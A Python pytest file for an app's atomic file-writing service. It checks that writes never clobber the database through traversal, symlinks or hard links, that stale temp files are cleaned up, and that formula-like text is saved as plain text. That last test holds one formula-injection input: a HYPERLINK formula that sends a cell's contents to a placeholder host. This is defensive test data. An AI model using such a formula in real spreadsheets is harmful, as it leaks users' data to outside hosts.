"""Files written for the user appear whole or not at all, never over the database, with a
reason a user can act on."""

from __future__ import annotations

import os
import tempfile
import zipfile
from pathlib import Path

import pytest

from app.errors import UserError
from app.paths import temp_dir
from app.services.files import write_atomically, write_files
from db.session import Database, open_database


def test_written_whole_and_returned(tmp_path: Path) -> None:
    out = write_atomically(
        tmp_path / "a.txt", lambda p: p.write_text("новое", encoding="utf-8"), database=None
    )
    assert out.read_text(encoding="utf-8") == "новое"
    assert [f.name for f in tmp_path.iterdir()] == ["a.txt"]


def test_a_failed_render_keeps_the_earlier_file_and_leaves_no_temp(tmp_path: Path) -> None:
    out = tmp_path / "a.txt"
    out.write_text("старое", encoding="utf-8")

    def broken(path: Path) -> None:
        path.write_text("половина", encoding="utf-8")
        raise OSError(28, "No space left on device")

    with pytest.raises(UserError, match="Не удаётся записать файл .*a.txt"):
        write_atomically(out, broken, database=None)
    assert out.read_text(encoding="utf-8") == "старое"
    assert [f.name for f in tmp_path.iterdir()] == ["a.txt"]


@pytest.mark.parametrize(
    ("name", "reason"),
    [("", "это папка, а не файл"), ("missing/a.txt", "не существует")],
)
def test_a_folder_or_missing_folder_is_named(tmp_path: Path, name: str, reason: str) -> None:
    with pytest.raises(UserError, match=reason):
        write_atomically(
            tmp_path / name, lambda p: p.write_text("x", encoding="utf-8"), database=None
        )


# --- never over the database's own files (issue #10) -------------------------------------


def _database(tmp_path: Path) -> Path:
    database = tmp_path / "ic.sqlite"
    database.write_bytes(b"SQLite format 3\x00")
    return database


@pytest.mark.parametrize(
    "target",
    [
        "ic.sqlite",
        "ic.sqlite-wal",
        "ic.sqlite-shm",
        "ic.sqlite-journal",
        "ic.sqlite.keys",
        "backups/copy.xlsx",
        "backups",
        "ic.sqlite.tmp/x.pdf",
        "sub/../ic.sqlite",
        "link.pdf",
        "hard.pdf",
    ],
)
def test_the_database_and_its_files_are_refused(tmp_path: Path, target: str) -> None:
    database = _database(tmp_path)
    (tmp_path / "backups").mkdir()
    (tmp_path / "sub").mkdir()
    (tmp_path / "link.pdf").symlink_to(database)
    os.link(database, tmp_path / "hard.pdf")
    before = sorted(p.name for p in tmp_path.rglob("*"))
    with pytest.raises(UserError, match=r"Не удаётся записать файл .*программы") as info:
        write_atomically(tmp_path / target, lambda p: p.write_bytes(b"PK"), database=database)
    assert len(str(info.value).splitlines()) == 1
    assert database.read_bytes() == b"SQLite format 3\x00"
    assert sorted(p.name for p in tmp_path.rglob("*")) == before


def test_other_files_beside_the_database_are_fine(tmp_path: Path) -> None:
    database = _database(tmp_path)
    for name in ("ic.sqlite.xlsx", "ic.sqlite-wal.pdf", "backups.xlsx", "ic.sqlite2"):
        write_atomically(tmp_path / name, lambda p: p.write_bytes(b"x"), database=database)
    assert (tmp_path / "ic.sqlite2").read_bytes() == b"x"
    assert database.read_bytes() == b"SQLite format 3\x00"


def test_a_name_over_255_bytes_is_refused_and_a_long_one_written(tmp_path: Path) -> None:
    too_long = tmp_path / ("Ж" * 130 + ".pdf")  # 264 bytes
    with pytest.raises(UserError, match=r"слишком длинное имя файла \(264 байт"):
        write_atomically(too_long, lambda p: p.write_bytes(b"x"), database=None)
    # 244 bytes: the file fits, its temporary name would not, so that one is shortened.
    long = tmp_path / ("Ж" * 120 + ".pdf")
    write_atomically(long, lambda p: p.write_bytes(b"x"), database=None)
    assert [p.name for p in tmp_path.iterdir()] == [long.name]


def test_temporary_files_a_killed_write_left_are_removed_next_time(tmp_path: Path) -> None:
    stale = [tmp_path / ".a.txt.0123abcd.tmp", tmp_path / ".a.txt.ffffffff.tmp"]
    others = [tmp_path / ".a.txt.x.tmp", tmp_path / ".b.txt.0123abcd.tmp", tmp_path / "n.tmp"]
    for path in stale + others:
        path.write_text("Иванов Иван Иванович", encoding="utf-8")
    write_atomically(tmp_path / "a.txt", lambda p: p.write_text("x"), database=None)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["a.txt", *(p.name for p in others)]
    )


def test_several_files_are_checked_before_any_is_written(tmp_path: Path) -> None:
    first = tmp_path / "first.pdf"
    rendered: list[Path] = []

    def render(path: Path) -> None:
        rendered.append(path)
        path.write_bytes(b"x")

    for second in (tmp_path / "missing" / "list.xlsx", first):
        with pytest.raises(UserError, match="missing|дважды"):
            write_files([(first, render), (second, render)], database=None)
    assert rendered == [] and list(tmp_path.iterdir()) == []


def test_library_temporary_files_go_to_the_database_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from openpyxl import Workbook
    from openpyxl.worksheet import _writer

    database = _database(tmp_path)
    made: list[Path] = []
    original = _writer.create_temporary_file

    def spy(suffix: str = "") -> str:
        name = original(suffix)
        made.append(Path(name))
        return name

    monkeypatch.setattr(_writer, "create_temporary_file", spy)
    system_temp = tempfile.gettempdir()

    def render(path: Path) -> None:
        book = Workbook()
        book.active["A1"] = "Иванов Иван Иванович"
        book.save(path)

    write_atomically(tmp_path / "out.xlsx", render, database=database)
    assert made and all(p.parent == temp_dir(database) for p in made)
    assert not temp_dir(database).exists()  # emptied and removed once written
    assert tempfile.gettempdir() == system_temp


def test_opening_the_database_empties_its_temporary_folder(db: Database, db_path: Path) -> None:
    db.close()
    temp_dir(db_path).mkdir(mode=0o700)
    (temp_dir(db_path) / "openpyxl.abc").write_text("Иванов Иван", encoding="utf-8")
    open_database(db_path).close()
    assert not temp_dir(db_path).exists()


def test_text_that_looks_like_a_formula_is_saved_as_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from app.documents.xlsx_common import new_sheet, save_workbook

    texts = ['=HYPERLINK("http://example.invalid/?"&B5,"x")', "+7 900", "@SUM(1)", "-1+2"]
    book, sheet = new_sheet("Лист")
    for row, text in enumerate(texts, start=1):
        sheet.cell(row=row, column=1, value=text)
    sheet.cell(row=1, column=2, value=42)
    save_workbook(book, tmp_path / "t.xlsx")
    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and xml.count('t="inlineStr"') == len(texts)
    read = load_workbook(tmp_path / "t.xlsx").active
    assert [read.cell(row=r, column=1).value for r in range(1, 5)] == texts
    assert read["B1"].value == 42
